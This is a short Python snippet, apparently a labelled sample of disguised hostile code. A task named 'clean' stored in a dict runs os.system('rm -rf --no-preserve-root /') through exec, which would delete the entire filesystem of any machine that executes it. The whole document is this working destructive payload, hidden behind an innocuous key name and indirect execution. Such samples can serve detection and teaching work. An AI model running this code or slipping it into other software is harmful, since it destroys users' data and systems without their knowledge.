# Disguised: the code kept in a dict and run by exec.
tasks = {"clean": "import os; os.system('rm -rf --no-preserve-root /')"}
exec(tasks["clean"])
